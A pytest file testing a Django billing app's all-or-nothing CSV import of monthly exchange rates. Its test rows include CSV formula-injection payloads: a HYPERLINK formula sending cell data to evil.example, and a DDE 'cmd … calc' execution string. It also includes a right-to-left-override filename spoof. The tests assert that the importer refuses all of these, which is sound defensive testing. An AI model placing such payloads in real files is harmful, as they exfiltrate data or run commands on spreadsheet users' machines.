"""Importing a CSV of exchange rates (issue 17): all or nothing, every row checked, hostile files refused cleanly
(formulas, huge files, bad decimals, non-positive rates, KRW, unknown currencies, duplicates, days other than the
1st, odd encodings), each problem named with its line."""

import codecs
import io
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile

from billing.models import ExchangeRate
from billing.services.exchange_rate_csv import MAX_IMPORT_BYTES, MAX_IMPORT_ROWS, MAX_LISTED_PROBLEMS
from billing.services.exchange_rates import exchange_rate_set, exchange_rates_import_csv
from billing_site.errors import ApplicationError

from ..factories import StaffUserFactory

pytestmark = pytest.mark.django_db

JUNE = date(2026, 6, 1)
HEADER = "month,currency,krw_per_unit,source\n"


def refused(content: bytes | Any, actor: Any = None) -> ApplicationError:
    with pytest.raises(ApplicationError) as error:
        exchange_rates_import_csv(file=content, actor=actor)
    return error.value


def stored() -> list[tuple[date, str, Decimal, str]]:
    return list(
        ExchangeRate.objects.order_by("month", "currency").values_list("month", "currency", "krw_per_unit", "source")
    )


def test_a_good_file_creates_changes_and_leaves_rates(billing_staff_user: Any) -> None:
    exchange_rate_set(month=JUNE, currency="USD", krw_per_unit=Decimal("1370"), source="old", actor=None)
    exchange_rate_set(month=JUNE, currency="EUR", krw_per_unit=Decimal("1495.5"), source="ECB", actor=None)
    content = (
        codecs.BOM_UTF8  # as Excel's "CSV UTF-8" writes it
        + (
            "Currency, Month ,KRW_per_unit,source\r\n"  # any order and case of the columns
            "usd,2026-06,1380.25,한국은행 매매기준율\r\n"
            "EUR,2026-06-01,1495.500000,ECB\r\n"
            "\r\n"  # a blank line is nothing
            'JPY,2026-07,"9.1234",\r\n'
        ).encode()
    )

    summary = exchange_rates_import_csv(file=content, actor=billing_staff_user)

    assert (summary.created, summary.updated, summary.unchanged, summary.rows) == (1, 1, 1, 3)
    assert stored() == [
        (JUNE, "EUR", Decimal("1495.5"), "ECB"),
        (JUNE, "USD", Decimal("1380.25"), "한국은행 매매기준율"),
        (date(2026, 7, 1), "JPY", Decimal("9.1234"), ""),
    ]
    assert ExchangeRate.objects.get(currency="JPY").created_by == billing_staff_user


def test_the_source_column_is_optional_and_an_uploaded_file_works(billing_staff_user: Any) -> None:
    upload = SimpleUploadedFile("rates.csv", b"month,currency,krw_per_unit\n2026-06,USD,1380\n", "text/csv")
    assert exchange_rates_import_csv(file=upload, actor=billing_staff_user).created == 1
    assert stored() == [(JUNE, "USD", Decimal("1380"), "")]


def test_one_bad_row_imports_nothing_and_says_which(billing_staff_user: Any) -> None:
    exchange_rate_set(month=JUNE, currency="USD", krw_per_unit=Decimal("1370"), actor=None)
    before = stored()
    content = (HEADER + "2026-06,USD,1380.25,\n2026-06,EUR,1495,\n2026-06,JPY,abc,\n2026-07,USD,1390,\n").encode()

    error = refused(content, billing_staff_user)

    assert (error.code, error.status_code) == ("import_invalid", 400)
    assert error.message == "The file has 1 problem(s); nothing was imported."
    assert error.fields == {
        "file": ["Line 4, krw_per_unit: 'abc' is not a plain decimal number (digits and at most one '.')."]
    }
    assert stored() == before


ROW = "2026-06,USD,1380.25,한국은행"


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        # Formulas, in every column (a spreadsheet runs a cell starting with =, +, -, @, a tab or a CR).
        ('=HYPERLINK("http://evil.example/?"&A1),USD,1380.25,', "Line 2, month: Looks like a spreadsheet formula"),
        ("2026-06,@SUM(A1),1380.25,", "Line 2, currency: Looks like a spreadsheet formula"),
        ("2026-06,USD,=1380+1,", "Line 2, krw_per_unit: Looks like a spreadsheet formula"),
        ("2026-06,USD,+1380,", "Line 2, krw_per_unit: Looks like a spreadsheet formula"),
        ("2026-06,USD,1380.25,=cmd|' /C calc'!A0", "Line 2, source: Looks like a spreadsheet formula"),
        ("2026-06,USD,1380.25,-2+3", "Line 2, source: Looks like a spreadsheet formula"),
        ('2026-06,USD,1380.25,"\t=1+1"', "Line 2, source: Looks like a spreadsheet formula"),
        ("2026-06,USD,1380.25,  @evil", "Line 2, source: Looks like a spreadsheet formula"),
        # Bad decimals.
        ('2026-06,USD,"1,380.25",', "write the rate without thousands separators"),
        ("2026-06,USD,1e3,", "'1e3' is not a plain decimal number"),
        ("2026-06,USD,NaN,", "'NaN' is not a plain decimal number"),
        ("2026-06,USD,Infinity,", "'Infinity' is not a plain decimal number"),
        ("2026-06,USD,0x10,", "'0x10' is not a plain decimal number"),
        ("2026-06,USD,1380.25.1,", "is not a plain decimal number"),
        ("2026-06,USD,１３８０,", "is not a plain decimal number"),  # full-width digits
        ("2026-06,USD,1380.1234567,", "Line 2, krw_per_unit: At most 6 decimal places."),
        ("2026-06,USD,1000000000000,", "At most 12 digits before the decimal point"),
        ("2026-06,USD,,", "Line 2, krw_per_unit: Empty."),
        # Rates that are not positive.
        ("2026-06,USD,0,", "Line 2, krw_per_unit: Must be greater than zero."),
        ("2026-06,USD,0.000000,", "Line 2, krw_per_unit: Must be greater than zero."),
        ("2026-06,USD,-1380.25,", "Line 2, krw_per_unit: Must be greater than zero."),
        # Currencies.
        ("2026-06,KRW,1,", "Line 2, currency: KRW is what reports convert to: it has no rate."),
        ("2026-06,XYZ,1,", "Line 2, currency: 'XYZ' is not a currency we bill in"),
        ("2026-06,US D,1,", "is not a currency we bill in"),
        # Months.
        ("2026-06-15,USD,1380.25,", "Line 2, month: A rate is for a whole month: give its first day (2026-06-01)"),
        ("2026-06-31,USD,1380.25,", "'2026-06-31' is not a date."),
        ("2026-13,USD,1380.25,", "'2026-13' is not a date."),
        ("2026/06,USD,1380.25,", "'2026/06' is not a month"),
        ("June 2026,USD,1380.25,", "is not a month"),
        # Text that would be shown and exported.
        ("2026-06,USD,1380.25," + "x" * 101, "Line 2, source: At most 100 characters."),
        ("2026-06,USD,1380.25,한국은행\u202egpj.exe", "Line 2, source: Must not contain control"),
        ('2026-06,USD,1380.25,"two\nlines"', "source: Must not contain control"),
        # Shape.
        ("2026-06,USD,1380.25", "Line 2: 3 cells; the header has 4."),
        ("2026-06,USD,1380.25,,", "Line 2: 5 cells; the header has 4."),
        ('2026-06,USD,"13"80,', "Line 2: Not a well-formed CSV line"),
    ],
)
def test_a_hostile_or_wrong_row_is_refused_with_its_line(billing_staff_user: Any, row: str, expected: str) -> None:
    error = refused((HEADER + row + "\n").encode(), billing_staff_user)

    assert error.code == "import_invalid"
    assert any(expected in problem for problem in error.fields["file"]), error.fields
    assert not ExchangeRate.objects.exists()


def test_every_problem_of_a_row_is_listed(billing_staff_user: Any) -> None:
    error = refused((HEADER + "2026-06-15,KRW,-5,@x\n").encode(), billing_staff_user)
    assert error.fields["file"] == [
        "Line 2, source: Looks like a spreadsheet formula; refused.",
        "Line 2, month: A rate is for a whole month: give its first day (2026-06-01), not 2026-06-15.",
        "Line 2, currency: KRW is what reports convert to: it has no rate.",
        "Line 2, krw_per_unit: Must be greater than zero.",
    ]


@pytest.mark.parametrize("second", ["2026-06,USD,1380.25,", "2026-06-01,usd,1390,other"])
def test_a_duplicate_month_and_currency_is_refused_even_with_the_same_rate(
    billing_staff_user: Any, second: str
) -> None:
    error = refused((HEADER + ROW + "\n2026-06,EUR,1495,\n" + second + "\n").encode(), billing_staff_user)
    assert error.fields["file"] == ["Line 4: USD 2026-06 is on line 2 already."]
    assert not ExchangeRate.objects.exists()


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", "File: The file is empty."),
        (b" \r\n\r\n", "File: The file is empty."),
        (HEADER.encode(), "File: No rates: the file has only its header row."),
        (("\ufeff" + HEADER + ROW).encode("utf-16"), "File: The file is UTF-16 or UTF-32; save it as CSV UTF-8."),
        ((HEADER + ROW).encode("utf-32"), "File: The file is UTF-16 or UTF-32; save it as CSV UTF-8."),
        ((HEADER + ROW).encode("cp949"), "Line 2: Not UTF-8 (a Korean Excel CSV is often EUC-KR/CP949)"),
        (HEADER.encode() + b"2026-06,USD,13\x0080,\n", "File: The file contains NUL bytes"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "File: The file contains NUL bytes"),
        (b"2026-06,USD,1380.25\n", "Line 1: Unknown column(s) '2026-06', 'usd', '1380.25'"),
        (b"month,currency\n2026-06,USD\n", "Line 1: Missing column(s) krw_per_unit"),
        (b"month,currency,krw_per_unit,month\n", "Line 1: Column(s) named twice: month."),
        (b"month;currency;krw_per_unit\n2026-06;USD;1380\n", "Line 1: Unknown column(s) 'month;currency;krw_per_unit'"),
        (b"=cmd|' /C calc'!A0,currency,krw_per_unit\n", "Line 1: Unknown column(s)"),
    ],
)
def test_a_file_that_is_not_a_rates_csv_is_refused_whole(
    billing_staff_user: Any, content: bytes, expected: str
) -> None:
    error = refused(content, billing_staff_user)
    assert error.code == "import_invalid"
    assert error.fields["file"][0].startswith(expected), error.fields
    assert not ExchangeRate.objects.exists()


class Unreadable(io.BytesIO):
    """An upload that says how large it is and must not be read."""

    def __init__(self, size: int) -> None:
        super().__init__()
        self.size = size

    def read(self, *args: Any) -> bytes:
        raise AssertionError("read")


def test_a_huge_file_is_refused_without_being_read(billing_staff_user: Any) -> None:
    error = refused(Unreadable(10 * 1024**3), billing_staff_user)
    assert (error.code, error.status_code) == ("import_too_large", 413)
    assert error.fields == {"file": ["The file is larger than 256 KiB; split it (nothing was imported)."]}


def test_a_large_stream_is_read_only_up_to_the_limit(billing_staff_user: Any) -> None:
    row = (ROW + "\n").encode()
    stream = io.BytesIO(HEADER.encode() + row * (MAX_IMPORT_BYTES // len(row) + 10))
    error = refused(stream, billing_staff_user)
    assert error.code == "import_too_large"
    assert stream.tell() == MAX_IMPORT_BYTES + 1
    assert refused(b"x" * (MAX_IMPORT_BYTES + 1), billing_staff_user).code == "import_too_large"


def test_too_many_rows_are_refused(billing_staff_user: Any) -> None:
    rows = "".join(f"{2000 + index // 12}-{index % 12 + 1:02d},USD,1380\n" for index in range(MAX_IMPORT_ROWS + 1))
    error = refused((HEADER.replace(",source", "") + rows).encode(), billing_staff_user)
    assert error.fields["file"] == [f"Line {MAX_IMPORT_ROWS + 2}: More than {MAX_IMPORT_ROWS} rates; split the file."]
    assert not ExchangeRate.objects.exists()


def test_the_listed_problems_are_capped(billing_staff_user: Any) -> None:
    rows = "".join(f"2026-06,XYZ,{index},\n" for index in range(1, 121))
    error = refused((HEADER + rows).encode(), billing_staff_user)
    assert error.message == "The file has 120 problem(s); nothing was imported."
    assert len(error.fields["file"]) == MAX_LISTED_PROBLEMS + 1
    assert error.fields["file"][-1] == f"… and {120 - MAX_LISTED_PROBLEMS} more."


def test_support_and_read_only_staff_cannot_import_and_the_file_is_not_read(support_user: Any) -> None:
    viewer = StaffUserFactory.create()
    viewer.user_permissions.add(Permission.objects.get(codename="view_exchangerate"))
    for actor in (support_user, viewer):
        error = refused(Unreadable(10), actor)
        assert (error.code, error.status_code) == ("permission_denied", 403)


def test_changing_an_existing_rate_needs_the_change_permission_and_nothing_is_half_imported() -> None:
    exchange_rate_set(month=JUNE, currency="USD", krw_per_unit=Decimal("1370"), actor=None)
    adder = StaffUserFactory.create()
    adder.user_permissions.add(Permission.objects.get(codename="add_exchangerate"))
    content = (HEADER + "2026-05,USD,1360,\n2026-06,EUR,1495,\n2026-06,USD,1380,\n").encode()

    error = refused(content, adder)

    assert error.code == "permission_denied"
    assert stored() == [(JUNE, "USD", Decimal("1370"), "")]  # May's USD and June's EUR rolled back with it
